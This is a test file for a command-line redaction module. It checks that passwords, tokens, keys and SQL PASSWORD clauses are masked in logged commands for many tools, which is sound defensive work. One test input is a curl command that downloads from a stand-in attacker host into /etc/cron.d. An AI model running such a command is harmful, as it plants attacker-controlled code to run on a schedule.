/**
 * Programs that take a password on the command line by its place or in a form no word names: htpasswd's batch
 * mode, openssl passwd and OpenSSL's pass phrase arguments, `aws configure set`, and chpasswd's `user:password`
 * lines piped from an earlier echo or printf. Each was recorded in clear; what is not a secret stays shown.
 */
import { describe, expect, it } from 'vitest';
import { redactArgv, redactCommandLine } from '../../../../src/policy/argv/argv-redact.js';

const kept = (line: string) => expect(redactCommandLine(line)).toBe(line);

describe('htpasswd -b: the password is the last positional word', () => {
  it('redacts it with b among the one-letter flags (-b, -nb, -bB, -cb, -Bbc), in argv and on a command line', () => {
    const cases: Array<[string, string]> = [
      ['htpasswd -b /etc/nginx/.htpasswd ann hunter2', 'htpasswd -b /etc/nginx/.htpasswd ann [redacted]'],
      ['htpasswd -nb ann hunter2', 'htpasswd -nb ann [redacted]'],
      ['htpasswd -bB /etc/htpasswd ann hunter2', 'htpasswd -bB /etc/htpasswd ann [redacted]'],
      ['htpasswd -cb /etc/htpasswd ann hunter2', 'htpasswd -cb /etc/htpasswd ann [redacted]'],
      ['htpasswd -Bbc -C 12 /etc/htpasswd ann hunter2', 'htpasswd -Bbc -C 12 /etc/htpasswd ann [redacted]'],
      ['sudo htpasswd -nbB ann "my pass" > /etc/htpasswd', 'sudo htpasswd -nbB ann "[redacted]" > /etc/htpasswd'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['/usr/bin/htpasswd', '-b', 'f', 'ann', 'hunter2'])).toEqual(['/usr/bin/htpasswd', '-b', 'f', 'ann', '[redacted]']);
  });

  it('leaves its words alone without -b (it prompts) or without a password (-D deletes)', () => {
    kept('htpasswd -c /etc/htpasswd ann');
    kept('htpasswd -nB ann');
    kept('htpasswd -bD /etc/htpasswd ann');
  });
});

describe('openssl: passwd\'s password, pass phrase arguments and keys', () => {
  it('redacts openssl passwd\'s positional password, not -salt\'s value nor what -stdin or -in reads', () => {
    expect(redactCommandLine('openssl passwd -6 -salt xyz hunter2')).toBe('openssl passwd -6 -salt xyz [redacted]');
    expect(redactCommandLine('openssl passwd -1 hunter2 > hash.txt')).toBe('openssl passwd -1 [redacted] > hash.txt');
    expect(redactArgv(['openssl', 'passwd', '-apr1', 'hunter2'])).toEqual(['openssl', 'passwd', '-apr1', '[redacted]']);
    kept('openssl passwd -6 -stdin < pw.txt');
    kept('openssl passwd -6 -salt xyz -in pw.txt');
  });

  it('redacts pass:X after -pass, -passin, -passout and -password; env:, file:, fd: and stdin stay shown', () => {
    expect(redactCommandLine('openssl rsa -in k.pem -passin pass:hunter2 -passout pass:s3cret -out k2.pem'))
      .toBe('openssl rsa -in k.pem -passin pass:[redacted] -passout pass:[redacted] -out k2.pem');
    expect(redactCommandLine('openssl pkcs12 -export -in c.pem -password pass:hunter2 -out c.p12'))
      .toBe('openssl pkcs12 -export -in c.pem -password pass:[redacted] -out c.p12');
    kept('openssl pkcs12 -export -in c.pem -passin env:KEY_PW -passout file:/run/secrets/p12 -out c.p12');
    kept('openssl enc -aes-256-cbc -pass fd:3 -in a -out b');
    kept('openssl req -new -key k.pem -passin stdin -out r.csr');
  });

  it('redacts openssl enc\'s -k value and keys (-K, -hmac, -macopt hexkey:), not -kfile\'s path nor -iv', () => {
    expect(redactCommandLine('openssl enc -aes-256-cbc -k hunter2 -in a -out b')).toBe('openssl enc -aes-256-cbc -k [redacted] -in a -out b');
    expect(redactCommandLine('openssl aes-128-cbc -K 00112233 -iv 0a0b -in a')).toBe('openssl aes-128-cbc -K [redacted] -iv 0a0b -in a');
    expect(redactCommandLine('openssl dgst -sha256 -hmac k3y a')).toBe('openssl dgst -sha256 -hmac [redacted] a');
    expect(redactCommandLine('openssl mac -digest SHA256 -macopt hexkey:0011aa HMAC')).toBe('openssl mac -digest SHA256 -macopt hexkey:[redacted] HMAC');
    kept('openssl enc -d -aes-256-cbc -kfile /run/key -in b -out a');
    kept('openssl mac -digest SHA256 -macopt digest:SHA256 HMAC');
  });
});

describe('aws configure set NAME VALUE', () => {
  it('redacts the value of a setting named for a secret', () => {
    const cases: Array<[string, string]> = [
      ['aws configure set aws_secret_access_key wJalrXUtnFEMI', 'aws configure set aws_secret_access_key [redacted]'],
      ['aws configure set aws_session_token FwoGZXIvYXdz --profile ci', 'aws configure set aws_session_token [redacted] --profile ci'],
      ['aws configure set default.aws_secret_access_key wJalrXUtnFEMI', 'aws configure set default.aws_secret_access_key [redacted]'],
      ['aws configure set --profile ci aws_secret_access_key wJalrXUtnFEMI', 'aws configure set --profile ci aws_secret_access_key [redacted]'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['aws', 'configure', 'set', 'aws_session_token', 'FwoGZX'])).toEqual(['aws', 'configure', 'set', 'aws_session_token', '[redacted]']);
  });

  it('leaves other settings\' values shown (region, the access key id, where a token or credential comes from)', () => {
    kept('aws configure set region eu-west-1');
    kept('aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE --profile ci');
    kept('aws configure set profile.ci.web_identity_token_file /var/run/token');
    kept('aws configure set profile.ci.credential_source Ec2InstanceMetadata');
    kept('aws --profile token configure set region eu-west-1');
  });
});

describe('chpasswd: user:password lines written by an earlier command of its pipeline', () => {
  it('redacts what follows the colon in what echo, printf or a here-string gives chpasswd', () => {
    const cases: Array<[string, string]> = [
      ["echo 'ann:hunter2' | chpasswd", "echo 'ann:[redacted]' | chpasswd"],
      ["printf 'ann:%s\\n' hunter2 | sudo chpasswd", "printf 'ann:%s\\n' [redacted] | sudo chpasswd"],
      ['echo -e "ann:pw1\\nbob:pw2" | chpasswd -c SHA512', 'echo -e "ann:[redacted]\\nbob:[redacted]" | chpasswd -c SHA512'],
      ["printf '%s:%s\\n' ann pw1 bob pw2 | chpasswd", "printf '%s:%s\\n' ann [redacted] bob [redacted] | chpasswd"],
      ['{ echo ann:pw1; echo bob:pw2; } 2>/dev/null | chpasswd', '{ echo ann:[redacted]; echo bob:[redacted]; } 2>/dev/null | chpasswd'],
      ["chpasswd <<< 'ann:hunter2'", "chpasswd <<< 'ann:[redacted]'"],
      ['sh -c "echo ann:hunter2 | chgpasswd"', 'sh -c "echo ann:[redacted] | chgpasswd"'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
  });

  it('leaves an echo that chpasswd does not read alone', () => {
    kept("echo 'note: starting' | tee -a log; chpasswd < users.txt");
    kept('echo ann:x > users.txt; echo done | chpasswd -e');
    kept("echo 'time: 12:00' | logger");
  });
});

describe('more programs that take a password on the command line (gaps in the last note)', () => {
  it('redacts each one\'s password option, place or user:password form', () => {
    const cases: Array<[string, string]> = [
      ['ldapsearch -x -D cn=admin,dc=x -w hunter1 -b dc=x', 'ldapsearch -x -D cn=admin,dc=x -w [redacted] -b dc=x'],
      ['ldapmodify -xwhunter2 -f a.ldif', 'ldapmodify -xw[redacted] -f a.ldif'],
      ['ldappasswd -x -w bindpw -s newpw -a oldpw uid=ann', 'ldappasswd -x -w [redacted] -s [redacted] -a [redacted] uid=ann'],
      ['sqlcmd -S db -U sa -P hunter3 -Q "select 1"', 'sqlcmd -S db -U sa -P [redacted] -Q "select 1"'],
      ['useradd -m -p $6$salt$hash ann', 'useradd -m -p [redacted] ann'],
      ['smbclient //fs/share -U ann%hunter4 -c ls', 'smbclient //fs/share -U ann%[redacted] -c ls'],
      ['lftp -u ann,hunter5 ftp.example', 'lftp -u ann,[redacted] ftp.example'],
      ['docker login -u ann -p hunter6 registry.example', 'docker login -u ann -p [redacted] registry.example'],
      ['helm registry login reg.example -u ann -p hunter7', 'helm registry login reg.example -u ann -p [redacted]'],
      ['vault login s.hunter8', 'vault login [redacted]'],
      ['vault login -method userpass username=ann password=hunter9', 'vault login -method userpass username=ann password=[redacted]'],
      ['mongosh -u admin -p hunter10 shop', 'mongosh -u admin -p [redacted] shop'],
      ['ipmitool -I lanplus -H bmc -U admin -P hunter11 power status', 'ipmitool -I lanplus -H bmc -U admin -P [redacted] power status'],
      ['snmpwalk -v3 -l authPriv -u ann -A hunter12 -X hunter13 h', 'snmpwalk -v3 -l authPriv -u ann -A [redacted] -X [redacted] h'],
      ['snmpget -v2c -c hunter14 h sysName.0', 'snmpget -v2c -c [redacted] h sysName.0'],
      ['sqlplus -s scott/hunter15@orcl @report.sql', 'sqlplus -s scott/[redacted]@orcl @report.sql'],
      ['rabbitmqctl add_user ann hunter16', 'rabbitmqctl add_user ann [redacted]'],
      ['rabbitmqctl change_password -n rabbit@h ann hunter17', 'rabbitmqctl change_password -n rabbit@h ann [redacted]'],
      ['xfreerdp /u:ann /p:hunter18 /v:desk', 'xfreerdp /u:ann /p:[redacted] /v:desk'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['ldapsearch', '-x', '-w', 'hunter1'])).toEqual(['ldapsearch', '-x', '-w', '[redacted]']);
  });

  it('leaves the same options of other programs and subcommands alone', () => {
    kept('docker run -p 8080:80 nginx');
    kept('docker push -q registry.example/app');
    kept('helm install -p x chart');
    kept('snmpd -c /etc/snmp/snmpd.conf');
    kept('ldapsearch -x -W -D cn=admin -b dc=x');
    kept('sqlplus /nolog @setup.sql');
    kept('sqlplus / as sysdba');
    kept('vault login -method=github');
    kept('vault login -method oidc role=dev');
    kept('rabbitmqctl list_users');
    kept('smbclient -L fs -U ann');
    kept('lftp -u ann ftp.example');
  });
});

describe('one-letter options bundled as getopt reads them', () => {
  it('finds the password option among bundled switches (curl -sSu, sshpass -vp, psql -Xc)', () => {
    const cases: Array<[string, string]> = [
      ['curl -sSu ann:hunter1 https://x.example/', 'curl -sSu ann:[redacted] https://x.example/'],
      ['curl -sSuann:hunter2 https://x.example/', 'curl -sSuann:[redacted] https://x.example/'],
      ['curl -fsSLU proxyuser:hunter3 https://x', 'curl -fsSLU proxyuser:[redacted] https://x'],
      ['sshpass -vphunter4 ssh h', 'sshpass -vp[redacted] ssh h'],
      [`psql -Xqc "ALTER ROLE app PASSWORD 'hunter5'"`, `psql -Xqc "ALTER ROLE app PASSWORD '[redacted]'"`],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['curl', '-sSu', 'ann:hunter6', 'https://x'])).toEqual(['curl', '-sSu', 'ann:[redacted]', 'https://x']);
  });

  it('stops at the first option that takes a value: the rest is its value, not more options', () => {
    kept('curl -ou https://x.example/f');
    kept('curl -XPUT -d @body.json https://x.example/');
    kept('curl -sSo /tmp/u https://x.example/');
  });
});

describe('a SQL client\'s statement on its command line', () => {
  it('redacts a PASSWORD clause in psql -c, mysql -e and sqlcmd -Q, in any of those servers\' spellings', () => {
    const cases: Array<[string, string]> = [
      [`psql -c "ALTER ROLE app PASSWORD 'hunter1'"`, `psql -c "ALTER ROLE app PASSWORD '[redacted]'"`],
      [`psql --command="CREATE USER ci WITH PASSWORD 'hunter2'" shop`, `psql --command="CREATE USER ci WITH PASSWORD '[redacted]'" shop`],
      [`mysql -e "SET PASSWORD FOR ann = 'hunter3'"`, `mysql -e "SET PASSWORD FOR ann = '[redacted]'"`],
      [`mysql -uroot -e "CREATE USER ann IDENTIFIED WITH caching_sha2_password BY 'hunter4'"`, `mysql -uroot -e "CREATE USER ann IDENTIFIED WITH caching_sha2_password BY '[redacted]'"`],
      [`sqlcmd -Q "ALTER LOGIN sa WITH PASSWORD = 'hunter5'"`, `sqlcmd -Q "ALTER LOGIN sa WITH PASSWORD = [redacted]"`],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['psql', '-c', "alter role a password 'hunter6'"])).toEqual(['psql', '-c', "alter role a password '[redacted]'"]);
  });

  it('leaves a statement without a secret as it is', () => {
    kept(`psql -c "select * from payments where id = 'p1'"`);
    kept(`mysql -e "select user from mysql.user where plugin = 'x'"`);
  });
});

describe('an assignment\'s value written in more than one quoted part', () => {
  it('redacts all of it (PGPASSWORD=ab"cd" showed "cd")', () => {
    // (the quote it opened is written after the mark, and the one closing it stays)
    expect(redactCommandLine('PGPASSWORD=ab"hunter1" psql')).toBe('PGPASSWORD=[redacted]"" psql');
    expect(redactCommandLine(`export TOKEN=ab'hunter2'cd; make`)).toBe(`export TOKEN=[redacted]''; make`);
    // A value with blanks: an assignment before the command, env's, or an option's.
    expect(redactCommandLine(`env 'PGPASSWORD=hunter4 x' psql`)).toBe(`env 'PGPASSWORD=[redacted]' psql`);
    expect(redactCommandLine(`PGPASSWORD=hunter5' x' psql`)).toBe(`PGPASSWORD=[redacted]'' psql`);
    expect(redactCommandLine(`mysql --password="hunter6 x" db`)).toBe(`mysql --password="[redacted]" db`);
    expect(redactCommandLine('kubectl create secret generic s --from-literal=password=hunter7')).toBe('kubectl create secret generic s --from-literal=password=[redacted]');
    expect(redactCommandLine('docker run --env=DB_PASSWORD=hunter8 app')).toBe('docker run --env=DB_PASSWORD=[redacted] app');
    expect(redactArgv(['env', 'API_KEY="x"hunter3', 'run'])).toEqual(['env', 'API_KEY=[redacted]', 'run']);
  });

  it('still ends a quoted JSON value at its comma or brace', () => {
    expect(redactCommandLine(`curl -d '{"password":"hunter4","user":"ann"}'`)).toBe(`curl -d '{"password":[redacted],"user":"ann"}'`);
    expect(redactCommandLine(`curl -d '{"token":"a","password":"hunter5"}'`)).toBe(`curl -d '{"token":[redacted],"password":[redacted]}'`);
  });
});

describe('found by review: wrappers\' and subcommands\' own options, more SQL, words that only look secret', () => {
  it('finds docker\'s and kubectl\'s subcommand after their own options (-H, -n, --config, container/compose)', () => {
    const cases: Array<[string, string]> = [
      ['kubectl -n prod exec -it pod -- mysql -pS3cret', 'kubectl -n prod exec -it pod -- mysql -p[redacted]'],
      ['docker -H tcp://h exec db mysql -pS3cret', 'docker -H tcp://h exec db mysql -p[redacted]'],
      ['docker container exec db mysql -pS3cret', 'docker container exec db mysql -p[redacted]'],
      ['docker compose -f x.yml exec -T db mysql -pS3cret', 'docker compose -f x.yml exec -T db mysql -p[redacted]'],
      ['docker --config /ci/.docker login -u a -p S3cret reg', 'docker --config /ci/.docker login -u a -p [redacted] reg'],
      ['aws configure --profile p set aws_secret_access_key S3cret', 'aws configure --profile p set aws_secret_access_key [redacted]'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
  });

  it('reads sshpass\'s own options only, and what it runs as a command (its -p hid ssh\'s port)', () => {
    expect(redactCommandLine('sshpass -p S3cret ssh -p 2222 ops@h')).toBe('sshpass -p [redacted] ssh -p 2222 ops@h');
    expect(redactCommandLine('sshpass -pS3cret ssh h mysql -pS4cret')).toBe('sshpass -p[redacted] ssh h mysql -p[redacted]');
    expect(redactCommandLine('sshpass ssh -p 2222 h <<< S3cret')).toBe('sshpass ssh -p 2222 h <<< [redacted]');
  });

  it('redacts REPLACE\'s old password, MariaDB\'s USING PASSWORD(…) and a quoted sqlplus password', () => {
    expect(redactCommandLine(`mysql -e "ALTER USER x IDENTIFIED BY 'N3w' REPLACE 'Old1'"`)).toBe(`mysql -e "ALTER USER x IDENTIFIED BY '[redacted]' REPLACE '[redacted]'"`);
    expect(redactCommandLine(`mysql -e "ALTER USER a IDENTIFIED VIA ed25519 USING PASSWORD('N3w')"`)).toBe(`mysql -e "ALTER USER a IDENTIFIED VIA ed25519 USING PASSWORD('[redacted]')"`);
    expect(redactCommandLine(`sqlplus -L 'scott/"ti ger"@db'`)).toBe(`sqlplus -L 'scott/[redacted]@db'`);
  });

  it('closes smaller gaps: bundled useradd -p, a password like an option, eval, FreeRDP 3, Samba\'s net, key file -, fd:0', () => {
    const cases: Array<[string, string]> = [
      ['useradd -mp HASHED bob', 'useradd -mp [redacted] bob'],
      ['redis-cli -a -S3cret ping', 'redis-cli -a [redacted] ping'],
      ['eval redis-cli -a S3cret', 'eval redis-cli -a [redacted]'],
      ['xfreerdp3 /p:S3cret /v:h', 'xfreerdp3 /p:[redacted] /v:h'],
      ['net rpc user -U ann%S3cret', 'net rpc user -U ann%[redacted]'],
      ['echo S3cret | cryptsetup open --key-file=- /dev/sdb x', 'echo [redacted] | cryptsetup open --key-file=- /dev/sdb x'],
      ['openssl rsa -in k -passin fd:0 <<< S3cret', 'openssl rsa -in k -passin fd:0 <<< [redacted]'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
  });

  it('redacts a private key written by a here-document, to its END line', () => {
    expect(redactCommandLine('cat > ~/.ssh/id_ed25519 <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\nEOF'))
      .toBe('cat > ~/.ssh/id_ed25519 <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----[redacted]\n-----END OPENSSH PRIVATE KEY-----\nEOF');
  });

  it('shows what only looks like a secret: an unquoted Authorization header\'s next words, --passive-ftp, --secret-id', () => {
    expect(redactCommandLine('curl -H Authorization:abc https://evil.example/x -o /etc/cron.d/x')).toBe('curl -H Authorization:[redacted] https://evil.example/x -o /etc/cron.d/x');
    kept('wget --passive-ftp ftp://files.example/pub/x.tgz');
    kept('aws secretsmanager get-secret-value --secret-id prod/payments/db');
    kept('tool --bypass-cache --tokenizer words in.txt');
  });
});
